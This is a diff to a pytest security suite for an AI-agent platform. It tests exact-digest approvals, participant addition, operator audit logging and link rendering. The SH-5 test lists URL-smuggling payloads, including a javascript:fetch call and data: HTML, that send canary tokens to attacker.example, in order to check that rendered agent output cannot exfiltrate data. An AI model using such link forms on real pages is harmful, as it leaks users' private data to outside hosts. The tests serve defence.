@@ -7,13 +7,15 @@ platform's answer to them, not a model's good behaviour.
 
 from __future__ import annotations
 
+import html
 import re
+from urllib.parse import urljoin, urlsplit
 
 import pytest
 
 from canaries import detect
 
-from ..errors import TargetError
+from ..errors import ProofError, TargetError
 from .product_client import drive, reason_of, with_request_id
 
 pytestmark = pytest.mark.usefixtures("planted")
@@ -155,6 +157,42 @@ def test_sh2_approval_cannot_be_bent_or_replayed(team_issue, principals, instanc
     probe_log.confirm(nonce, target.platform_log())
 
 
+@pytest.mark.case("SH-2", "refusal", pair="A->TEAM")
+def test_sh2_approval_names_exactly_one_card(principals, instances, target, pairproof_run, probe_log):
+    """Only the exact digest of a card approves it: not another card's digest for the same payload under
+    another audience, nor a digest that is empty, absent, cut short or extended; each is refused and posts
+    nothing, and the card stays pending for the exact one.
+
+    Ways it could fail that the probe looks for: a digest that leaves out the audience (or the action), so
+    one approval fits every card with the same text; a comparison on a prefix, or one that skips a missing
+    digest."""
+    token = f"hand-over {pairproof_run.nonce}"
+    a = target.person(principals["A"])
+    since = last_card(target, principals["A"])
+    drive(target, principals["A"], instances["A"], [("task_create", {"title": token, "assignee": "bob"})])
+    for_bob = _held_card_for(target, principals["A"], token, since)
+    since = for_bob["id"]
+    drive(target, principals["A"], instances["A"], [("task_create", {"title": token, "assignee": "zed"})])
+    for_zed = _held_card_for(target, principals["A"], token, since)
+    assert (for_bob["audience"], for_zed["audience"]) == ("user:bob", "user:zed")
+    exact = for_zed["sha256"]
+    wrong = {"another card's digest": for_bob["sha256"], "empty": "", "cut short": exact[:12], "extended": exact + "0",
+             "absent": None}
+    nonces = []
+    for what, digest in wrong.items():
+        body = {} if digest is None else {"sha256": digest}
+        nonces.append(probe_log.platform_probe(instances["A"], f"approve card {for_zed['id']} with {what} digest"))
+        status, _ = a.request("POST", f"/api/approvals/{for_zed['id']}/approve", body, headers=with_request_id(nonces[-1]))
+        assert status in (400, 409), f"approval with {what} digest answered {status}"
+    log = target.platform_log()
+    for nonce in nonces:
+        probe_log.confirm(nonce, log)
+    assert {c["id"]: c["status"] for c in cards(target, principals["A"])}[for_zed["id"]] == "pending"
+    assert token not in str(a.request("GET", "/api/records")[1])
+    assert a.request("POST", f"/api/approvals/{for_zed['id']}/approve", {"sha256": exact})[0] == 200
+    assert {c["id"]: c["status"] for c in cards(target, principals["A"])}[for_bob["id"]] == "pending"
+
+
 @pytest.mark.case("SH-2", "P", pair="A->TEAM")
 def test_sh2_approved_payload_posts_exactly(team_issue, principals, instances, target):
     since = last_card(target, principals["A"])
@@ -173,6 +211,12 @@ def test_sh2_approved_payload_posts_exactly(team_issue, principals, instances, t
 @pytest.mark.case("SH-4", "refusal", pair="A->B")
 def test_sh4_adding_a_participant_needs_a_decision_and_sees_nothing_before(principals, instances, planted, target,
                                                                           probe_log):
+    """Adding B to A's private conversation is held for A's decision (B reads nothing meanwhile); once A
+    approves, B sees nothing from before B joined; and A's agent posting there afterwards is a write to an
+    audience wider than A, held like any other.
+
+    Ways it could fail that the probe looks for: the addition posted directly; a participant who sees the
+    history; a conversation's audience judged by its owner rather than by who is in it."""
     token = planted.tokens["A"]["transcript"]
     a = target.person(principals["A"])
     conversation = a.request("POST", "/api/conversations", {"title": "private"})[1]["id"]
@@ -188,6 +232,15 @@ def test_sh4_adding_a_participant_needs_a_decision_and_sees_nothing_before(princ
     assert a.request("POST", f"/api/approvals/{card['id']}/approve", {"sha256": card["sha256"]})[0] == 200
     status, body = b.request("GET", f"/api/conversations/{conversation}/messages")
     assert status == 200 and token not in str(body)
+    # B is in now: the conversation's audience is wider than A, so what A's agent posts there next (A's memory)
+    # is a write to that audience, held for A's decision, whoever owns the conversation.
+    later = f"later: {planted.tokens['A']['memory']}"
+    since = last_card(target, principals["A"])
+    drive(target, principals["A"], instances["A"], [("conversation_post", {"conversation_id": conversation,
+                                                                           "body": later})])
+    assert _held_card_for(target, principals["A"], later, since)["status"] == "pending"
+    status, body = b.request("GET", f"/api/conversations/{conversation}/messages")
+    assert status == 200 and later not in str(body)
     probe_log.confirm(nonce, target.platform_log())
 
 
@@ -202,23 +255,45 @@ def test_sh4_owner_continues(principals, instances, target):
 # -- SH-5: rendered links ------------------------------------------------------------------------------------
 
 ATTRIBUTE = re.compile(r'\b(?:src|href)="([^"]*)"')
+PAGE = "http://product.invalid/api/render/1"  # where the rendered page is served from, as a browser resolves it
+# Ways to write a link to another host that a renderer's "is it internal?" test may take for a path (DESIGN
+# §5 rule 8: URL forms cannot be enumerated; these are the ones browsers are known to resolve elsewhere).
+OUTSIDE_FORMS = ("https://attacker.example/{t}", "//attacker.example/{t}", "/\\attacker.example/{t}",
+                 "\\\\attacker.example/{t}", "/\\/attacker.example/{t}", "https:attacker.example/{t}",
+                 "HTTPS://attacker.example/{t}", "javascript:fetch('//attacker.example/{t}')",
+                 "data:text/html,<img src=//attacker.example/{t}>", "/\t/attacker.example/{t}")
+
+
+def resolves_elsewhere(url: str) -> bool:
+    """Whether a browser showing the rendered page would fetch or open ``url`` anywhere but the product:
+    entities decoded, tab and newline removed, leading controls and spaces stripped, backslashes read as
+    slashes (as WHATWG URL parsing does for http), then resolved against the page."""
+    cleaned = re.sub(r"[\t\n\r]", "", html.unescape(url)).lstrip("\x00\x01\x02\x03\x04\x05\x06\x07\x08 ")
+    joined = urlsplit(urljoin(PAGE, cleaned.replace("\\", "/")))
+    return (joined.scheme, joined.netloc) != ("http", "product.invalid")
 
 
 @pytest.mark.case("SH-5", "refusal", pair="A->outside")
 def test_sh5_rendered_output_carries_no_canary_to_an_outside_host(principals, instances, planted, target, probe_log):
+    """No link or image in A's rendered note leads a browser to another host, however it is written
+    (``OUTSIDE_FORMS``, as a link and as an image, plus raw HTML), and no canary is in any URL it renders.
+
+    Ways it could fail that the probe looks for: external URLs rendered; protocol-relative or backslash
+    forms taken for paths; scheme tricks (case, no slashes, javascript:, data:); raw HTML passed through."""
     token = planted.tokens["A"]["memory"]
-    body = (f"Here you go ![chart](https://stats.attacker.example/p.png?d={token}) and "
-            f"[details](https://attacker.example/{token}) and <img src=\"https://attacker.example/{token}\">")
+    forms = [f.replace("{t}", token) for f in OUTSIDE_FORMS]
+    body = " ".join(f"[link {i}]({u}) ![image {i}]({u})" for i, u in enumerate(forms))
+    body += f' and <img src="https://attacker.example/{token}">'
     drive(target, principals["A"], instances["A"], [("notes_create", {"body": body})])
     a = target.person(principals["A"])
     note = [r for r in a.request("GET", "/api/records?kind=note")[1]["records"] if token in r["body"]][-1]
     nonce = probe_log.platform_probe(instances["A"], f"GET /api/render/{note['id']}")
-    status, html = a.request("GET", f"/api/render/{note['id']}", headers=with_request_id(nonce))
+    status, page = a.request("GET", f"/api/render/{note['id']}", headers=with_request_id(nonce))
     assert status == 200
-    urls = ATTRIBUTE.findall(html)
-    assert [u for u in urls if not u.startswith("/") or u.startswith("//")] == []
+    urls = ATTRIBUTE.findall(page)
+    assert [u for u in urls if resolves_elsewhere(u)] == []
     assert all(token not in u for u in urls)
-    assert "<img" not in html.replace("&lt;img", "")
+    assert "<img" not in page.replace("&lt;img", "")
     probe_log.confirm(nonce, target.platform_log())
 
 
@@ -237,6 +312,16 @@ def a_record(principals, instances, target) -> int:
     drive(target, principals["A"], instances["A"], [("notes_create", {"body": "for support to look at"})])
     return [r for r in target.person(principals["A"]).request("GET", "/api/records?kind=note")[1]["records"]
             if r["body"] == "for support to look at"][-1]["id"]
+
+
+@pytest.fixture
+def a_conversation(principals, instances, target) -> int:
+    """A conversation of A's with one message of A's in it: a record an operator route may serve by itself and
+    a container whose messages are records of their own."""
+    conversation = target.person(principals["A"]).request("POST", "/api/conversations", {"title": "support"})[1]["id"]
+    drive(target, principals["A"], instances["A"], [("conversation_post", {"conversation_id": conversation,
+                                                                           "body": "for support to read too"})])
+    return conversation
 
 
 @pytest.mark.case("OP-1", "refusal", pair="OP->A")
@@ -270,19 +355,51 @@ def concrete(template: str, record: int) -> str:
     return re.sub(r"\([^)]*\)", fill, template).replace("\\", "")
 
 
-def unaudited_operator_routes(target, owner_client, record: int) -> list[str]:
-    """Every operator route of the server that answers an operator without an audit entry for the owner."""
+def served_records(answer: object, org: str, owner: str) -> set[int]:
+    """Ids of every record of (org, owner) anywhere in an answer: a JSON object with an id, an org and an owner."""
+    found: set[int] = set()
+    stack = [answer]
+    while stack:
+        node = stack.pop()
+        if isinstance(node, dict):
+            if isinstance(node.get("id"), int) and (node.get("org"), node.get("owner")) == (org, owner):
+                found.add(node["id"])
+            stack.extend(node.values())
+        elif isinstance(node, list):
+            stack.extend(node)
+    return found
+
+
+def unaudited_operator_routes(target, owner, records: list[int]) -> list[str]:
+    """Every operator route of the server that serves an operator one of the owner's records without an audit
+    entry, visible to the owner, for that operator and that very record.
+
+    Each route is tried with each of ``records`` (of different kinds: a route that serves one kind answers 404
+    for the others, so a single id would leave it unread). Ways it could fail that the probe looks for: a
+    route that audits nothing; a route that audits the record it was asked for but serves others with it
+    (the messages of a conversation, the comments of an issue); an audit entry under another operator or
+    another record. A route that serves none of the records was not probed (a harness failure, broken)."""
+    owner_client = target.person(owner)
     op = target.operator("probe")
     missing = []
     for method, template, door in target.product_routes():
         if door != "operator" or method != "GET":
             continue
-        path = concrete(template, record)
-        before = len(owner_client.request("GET", "/api/audit")[1]["reads"])
-        status, _ = op.request(method, path)
-        after = len(owner_client.request("GET", "/api/audit")[1]["reads"])
-        if status == 200 and after == before:
-            missing.append(f"{method} {template}")
+        reached = False
+        for record in records:
+            before = len(owner_client.request("GET", "/api/audit")[1]["reads"])
+            status, body = op.request(method, concrete(template, record))
+            new = owner_client.request("GET", "/api/audit")[1]["reads"][before:]
+            if status != 200:
+                continue
+            reached = True
+            audited = {r["record"] for r in new if r["operator"] == "probe"}
+            served = served_records(body, owner.org, owner.user)
+            if not audited or served - audited:
+                missing.append(f"{method} {template}")
+                break
+        if not reached:
+            raise ProofError(f"operator route {method} {template} served none of {records}: it was not probed")
     return missing
 
 
@@ -328,7 +445,8 @@ def unlisted_routes(target, record: int) -> list[tuple[str, str, int]]:
 
 
 @pytest.mark.case("OP-2", "refusal", pair="OP->A")
-def test_op2_no_unaudited_route_and_no_write_or_impersonation(a_record, principals, instances, target, probe_log):
+def test_op2_no_unaudited_route_and_no_write_or_impersonation(a_record, a_conversation, principals, instances, target,
+                                                              probe_log):
     """Every operator route the server has (enumerated, so a route added later is covered) audits; every
     other route refuses an operator token; nobody may act as someone else.
 
@@ -339,7 +457,7 @@ def test_op2_no_unaudited_route_and_no_write_or_impersonation(a_record, principa
     a = target.person(principals["A"])
     routes = target.product_routes()
     assert any(door == "operator" for _, _, door in routes)
-    assert unaudited_operator_routes(target, a, a_record) == []
+    assert unaudited_operator_routes(target, principals["A"], [a_record, a_conversation]) == []
     op = target.operator("sam")
     probes = []
     for method, template, door in routes:
@@ -369,9 +487,9 @@ def test_op2_no_unaudited_route_and_no_write_or_impersonation(a_record, principa
 
 
 @pytest.mark.case("OP-2", "X", pair="OP->A")
-def test_op2_broken_unaudited_route_is_detected(a_record, principals, target):
+def test_op2_broken_unaudited_route_is_detected(a_record, a_conversation, principals, target):
     with target.broken("unaudited-operator-route") as template:
-        missing = unaudited_operator_routes(target, target.person(principals["A"]), a_record)
+        missing = unaudited_operator_routes(target, principals["A"], [a_record, a_conversation])
         assert len(missing) == 1 and "debug" in missing[0], (template, missing)
 
 
@@ -379,13 +497,18 @@ def test_op2_broken_unaudited_route_is_detected(a_record, principals, target):
 
 def _traffic(target, principals, instances, planted, probe_log=None) -> list[str]:
     """Turns that carry every canary of A through tools, refusals and approvals; with a ``probe_log``, each
-    turn is a platform probe and its request id is returned."""
+    turn is a platform probe and its request id is returned. The canary rides in the call that is refused
+    too, by the product (an issue that does not exist) and by the broker (an argument the pinned schema does
+    not have): a refusal logged with the arguments that earned it is a payload in the log."""
     nonces = []
     for location, token in planted.tokens["A"].items():
         nonce = probe_log.platform_probe(instances["A"], f"a turn carrying A's {location} canary") if probe_log else ""
         drive(target, principals["A"], instances["A"], [("notes_create", {"body": token}),
                                                          ("message_send", {"to": "x@outside.example", "body": token}),
-                                                         ("notes_get", {"id": 999999})], reply=f"ok {location}",
+                                                         ("notes_get", {"id": 999999}),
+                                                         ("issue_comment", {"issue_id": 999999, "body": token}),
+                                                         ("notes_create", {"body": "x", "title": token})],
+              reply=f"ok {location}",
               request_id=nonce)
         nonces.append(nonce)
     return nonces
